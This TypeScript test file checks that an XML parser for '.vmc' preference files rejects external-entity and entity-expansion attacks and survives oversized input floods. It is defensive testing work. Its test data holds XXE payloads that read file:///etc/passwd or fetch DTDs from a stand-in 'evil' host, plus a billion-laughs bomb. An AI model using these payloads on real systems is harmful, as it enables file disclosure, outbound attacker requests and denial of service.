import assert from 'node:assert/strict';
import { parse } from '../../server/src/syntax/vmc/parse.js';
import { ENGLISH } from '../../server/src/l10n/language.js';
import { MemoryFileSystem, uriOf } from '../memoryFileSystem.js';
import { lintFiles } from '../lintFiles.js';
import { askEverything } from './askedServer.js';
import { spiedFiles, touchesOutside } from './spiedFiles.js';

const AROUND = (inside: string): string =>
  `<preferences>\n<version type="string">${inside}</version>\n</preferences>\n`;

const BOMB = Array.from(
  { length: 30 },
  (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`,
).join('\n');

const ENTITIES: Readonly<Record<string, string>> = {
  'a file': `<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${AROUND('&x;')}`,
  'another computer': `<!DOCTYPE p [<!ENTITY x SYSTEM "\\\\evil\\share\\x">]>\n${AROUND('&x;')}`,
  'an external DTD': `<!DOCTYPE p SYSTEM "http://evil/p.dtd">\n${AROUND('&x;')}`,
  'a public DTD': `<!DOCTYPE p PUBLIC "-//x" "http://evil/p.dtd">\n${AROUND('2.0')}`,
  'a parameter entity': `<!DOCTYPE p [<!ENTITY % x SYSTEM "http://evil/p.dtd"> %x;]>\n${AROUND('2.0')}`,
  'itself a billion times': `<!DOCTYPE p [<!ENTITY e0 "boom">\n${BOMB}]>\n${AROUND('&e30;')}`,
};

describe('XML that would bring something in', () => {
  for (const [what, text] of Object.entries(ENTITIES)) {
    it(`${what}: is refused with a finding, and nothing is read`, async () => {
      const memory = new MemoryFileSystem({ '/vms/node.vmc': text, '/etc/passwd': 'root:secret' });
      const { files, touches } = spiedFiles(memory);
      const { answers } = await askEverything(files, uriOf('/vms'), { [uriOf('/vms/node.vmc')]: text });
      assert.deepEqual(touchesOutside(touches, ['/vms/']), []);
      assert.ok(!JSON.stringify(answers).includes('root:secret'));
      assert.ok(!JSON.stringify(answers).includes('boomboom'));
      const findings = (await lintFiles({ 'node.vmc': text })).get('node.vmc') ?? [];
      assert.ok(findings.some(({ ruleId }) => ruleId === 'vmc-not-well-formed'));
    });
  }

  it('five entities and numbers of characters are all there is', () => {
    const { tree } = parse(AROUND('&lt;&amp;&gt;&quot;&apos;&#65;&#x42;'));
    assert.equal(tree.root?.children[0]?.text, '<&>"\'AB');
  });
});

describe('XML that is too much', () => {
  const FLOODS: Readonly<Record<string, string>> = {
    'elements in one another': '<a>'.repeat(200_000),
    'elements beside one another': `<preferences>${'<a/>'.repeat(300_000)}</preferences>`,
    'attributes of one element': `<preferences ${Array.from({ length: 100_000 }, (_, index) => `a${index}="x"`).join(' ')}/>`,
    'the same attribute': `<preferences ${'a="x" '.repeat(100_000)}/>`,
    'one long name': `<${'a'.repeat(2_000_000)}>`,
    'comments that never end': `<preferences>${'<!--'.repeat(500_000)}`,
    'declarations in a value': `<preferences a="${'<?'.repeat(500_000)}"/><!DOCTYPE p>`,
    'comments in a document type': `<!DOCTYPE p [${'<!--'.repeat(300_000)}]><preferences/>`,
  };
  for (const [what, text] of Object.entries(FLOODS)) {
    it(`${what}: is told and comes to an end`, () => {
      const { errors } = parse(text);
      assert.ok(errors.length > 0, 'nothing was told');
      assert.ok(errors.length <= 1000, `${errors.length} errors`);
      for (const { message } of errors) assert.ok(ENGLISH(message).length < 1000);
    });
  }
});
